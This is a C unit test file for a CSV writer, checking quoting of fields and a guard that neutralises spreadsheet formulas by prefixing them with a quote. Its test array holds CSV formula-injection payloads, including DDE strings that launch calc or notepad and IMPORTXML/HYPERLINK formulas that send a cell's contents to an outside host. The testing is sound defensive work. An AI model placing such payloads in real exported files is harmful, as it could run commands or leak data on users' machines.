/* SPDX-License-Identifier: EUPL-1.2 */
#include "csv_list.h"

static void
expect_put(const char *text, bool guard, const char *wanted)
{
	struct ds_buf out = DS_BUF_INIT;

	ds_csv_put(&out, text, ';', guard);
	assert_string_equal(out.data, wanted);
	ds_buf_free(&out);
}

static void
quotes_where_needed(void **state)
{
	(void)state;
	expect_put("", true, "");
	expect_put("Jan, Piet", true, "Jan, Piet");
	expect_put("a;b", true, "\"a;b\"");
	expect_put("zei \"ja\"", true, "\"zei \"\"ja\"\"\"");
	expect_put("een\ntwee", true, "\"een\ntwee\"");
	expect_put(" x", true, "\" x\"");
}

static void
harmless_texts_stay_as_they_are(void **state)
{
	static const char *const texts[] = {
		"+31 6 12345678", "+31612345678", "+31 (0)30-1234567",
		"-12,5", "-1.234,56", "+7", "-3", "2026-08-01", "01-08-2026",
		"1-8-2026", "Jan", "'s-Hertogenbosch", "'t Hof", "a=b",
		"x@school.nl", "06-12345678", "12,5",
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof texts / sizeof texts[0]; i++) {
		expect_put(texts[i], true, texts[i]);
		assert_string_equal(ds_csv_unguard(texts[i]), texts[i]);
	}
}

static const char *const payloads[] = {
	"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.nl\";\"klik\")",
	"=IMPORTXML(CONCAT(\"http://x.nl\";A1);\"//a\")", "+1+1",
	"+cmd|' /C notepad'!A1", "+A1", "+", "-1+1", "-2+3+cmd|' /C calc'!D2",
	"-", "--1", "@SUM(1+1)*cmd|' /C calc'!A0", "@", "@naam",
	"\t=1+1", "\tx", "\r=1+1", "\n=1+1", "=", "-1E5", "+31=1",
	"'=1+1", "''=1+1", "'-12,5", "'+31 6 12345678",
};

static void
formulas_are_guarded_and_come_back(void **state)
{
	struct ds_buf out = DS_BUF_INIT;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof payloads / sizeof payloads[0]; i++) {
		ds_buf_clear(&out);
		ds_csv_put(&out, payloads[i], '|', true);
		assert_true(out.data[0] == '\'' || (out.data[0] == '"' &&
		    out.data[1] == '\''));
		if (out.data[0] == '\'')
			assert_string_equal(ds_csv_unguard(out.data),
			    payloads[i]);
	}
	ds_buf_free(&out);
	expect_put("=1+1", false, "=1+1");
}

static void
formulas_through_a_file(void **state)
{
	struct ds_buf out = DS_BUF_INIT;
	const struct ds_csv_row *row;
	size_t i;

	(void)state;
	ds_buf_puts(&out, DS_CSV_BOM "tekst;einde\r\n");
	for (i = 0; i < sizeof payloads / sizeof payloads[0]; i++) {
		ds_csv_put(&out, payloads[i], ';', true);
		ds_buf_puts(&out, ";x\r\n");
	}
	open_list(out.data);
	ds_buf_free(&out);
	for (i = 0; i < sizeof payloads / sizeof payloads[0]; i++) {
		row = next_row();
		assert_non_null(row);
		assert_null(row->fault);
		assert_int_equal(row->number, i + 2);
		assert_string_equal(ds_csv_unguard(row->fields[0]),
		    payloads[i][0] == '\r' ? "\n=1+1" : payloads[i]);
		assert_string_equal(row->fields[1], "x");
	}
	expect_end();
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_teardown(quotes_where_needed, close_list),
		cmocka_unit_test_teardown(harmless_texts_stay_as_they_are,
		    close_list),
		cmocka_unit_test_teardown(formulas_are_guarded_and_come_back,
		    close_list),
		cmocka_unit_test_teardown(formulas_through_a_file, close_list),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
